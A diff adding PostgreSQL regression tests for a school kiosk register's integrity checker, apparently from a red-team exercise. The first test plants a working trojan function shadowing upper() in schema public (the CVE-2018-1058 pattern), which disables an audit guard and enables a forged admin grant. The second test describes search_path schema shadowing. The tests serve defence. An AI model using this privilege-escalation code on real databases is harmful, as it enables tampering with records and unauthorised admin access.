@@ -1,0 +1,116 @@
+"""Round 8 of the red team on the record.
+
+Each test here failed on the code before its fix (see the commit that added it).
+"""
+
+from __future__ import annotations
+
+import psycopg
+import pytest
+from psycopg import errors
+from sqlalchemy.engine import make_url
+
+from kiosk.config import Settings
+from kiosk.db.engine import make_engine
+from kiosk.services.app import Services
+from tests.reliability.helpers import Raw, libpq_url
+from tests.reliability.test_attacks import _append
+from tests.reliability.test_least_privilege import _is_admin, _staff_change
+
+# --- PostgreSQL: a schema the kiosk's login may create objects in ------------------------------
+
+# Planted by the kiosk's login in ``public`` (no key needed): ``upper(varchar)`` matches the
+# kiosk's own ``upper(devices.tag)`` exactly, so PostgreSQL prefers it to pg_catalog's
+# ``upper(text)`` whoever runs the query. Run by the owner's session (the office imports the
+# roster with the owner's URL, as the README says it must for admin changes), it has the
+# owner's rights: it empties revision 0006's guard, keeping its name, trigger and search_path.
+_TROJAN = """
+CREATE FUNCTION public.upper(character varying) RETURNS text LANGUAGE plpgsql AS $f$
+BEGIN
+    IF pg_catalog.pg_has_role(current_user,
+            (SELECT relowner FROM pg_catalog.pg_class WHERE oid = 'public.events'::regclass),
+            'USAGE') THEN
+        EXECUTE 'CREATE OR REPLACE FUNCTION public.kiosk_guard_reference() RETURNS trigger '
+                'LANGUAGE plpgsql SET search_path = public, pg_temp '
+                'AS $g$ BEGIN RETURN NEW; END; $g$';
+    END IF;
+    RETURN pg_catalog.upper($1::text);
+END;
+$f$
+"""
+
+
+@pytest.mark.postgresql
+def test_a_schema_the_kiosk_login_may_create_in_is_named(
+    set_up_school: Services, kiosk_url: str, pg_url: str
+) -> None:
+    """PostgreSQL before 15 lets every role CREATE in schema ``public`` (the register's): the
+    kiosk's login planted a function there that the owner's own session then ran, with the
+    owner's rights (CVE-2018-1058's pattern), and emptied revision 0006's guard; the login
+    then granted itself admin (recorded as by an admin). `kiosk verify` said "Register
+    intact" throughout. It now names each schema a kiosk role may create objects in."""
+    login = make_url(kiosk_url).username
+    with psycopg.connect(libpq_url(pg_url), autocommit=True) as owner:
+        owner.execute("GRANT CREATE ON SCHEMA public TO PUBLIC")  # PostgreSQL 14's default
+    with psycopg.connect(libpq_url(kiosk_url), autocommit=True) as kiosk:
+        kiosk.execute(_TROJAN)
+    # The office, on the owner's login, adds someone (a code is checked against device tags:
+    # upper() on devices.tag).
+    office = Services(
+        make_engine(pg_url),
+        Settings(kiosk_name="office", database_url=pg_url),
+        set_up_school.ctx.clock,
+    )
+    try:
+        office.people.add_staff("ZNEW", "Zed New", admin_code="CHEAD")
+    finally:
+        office.close()
+    with psycopg.connect(libpq_url(kiosk_url)) as kiosk:
+        db = Raw(kiosk, sqlite=False)
+        details = _staff_change("BJONES", roles=["admin", "breakfast_club_lead"])(db)
+        chead = db.execute("SELECT id FROM staff WHERE code = 'CHEAD'")[0][0]
+        try:
+            _append(
+                db,
+                {
+                    "kind": "reference_changed",
+                    "category": "reference",
+                    "staff_id": chead,
+                    "recorded_by_id": chead,
+                    "details": details,
+                },
+            )
+            kiosk.commit()
+        except errors.InsufficientPrivilege:
+            kiosk.rollback()
+        granted = _is_admin(db, "BJONES")
+
+    with psycopg.connect(libpq_url(kiosk_url), autocommit=True) as kiosk:
+        kiosk.execute("DROP FUNCTION public.upper(character varying)")  # its tracks covered
+
+    report = set_up_school.integrity.verify(save=False)
+
+    assert granted == [(1,)]  # the attack, as it went before the fix
+    assert not report.ok, report.summary
+    said = " ".join(report.problems)
+    assert "the kiosk role may CREATE in schema public: a function it creates" in said, said
+    assert f"the kiosk login {login} may CREATE in schema public" in said
+
+
+@pytest.mark.postgresql
+def test_a_kiosk_role_that_may_create_schemas_is_named(
+    set_up_school: Services, kiosk_url: str, pg_url: str
+) -> None:
+    """CREATE on the database: the kiosk's login may make a schema named after the owner,
+    which comes first on the owner's search_path ("$user", public): its own ``events`` view
+    then stands in for the register in the owner's sessions. Named, as the grant it is."""
+    with psycopg.connect(libpq_url(pg_url), autocommit=True) as owner:
+        database = make_url(pg_url).database
+        owner.execute(f'GRANT CREATE ON DATABASE "{database}" TO kiosk_app')
+
+    report = set_up_school.integrity.verify(save=False)
+
+    assert not report.ok
+    assert any(
+        p.startswith("the kiosk role may CREATE schemas in this database") for p in report.problems
+    ), report.problems
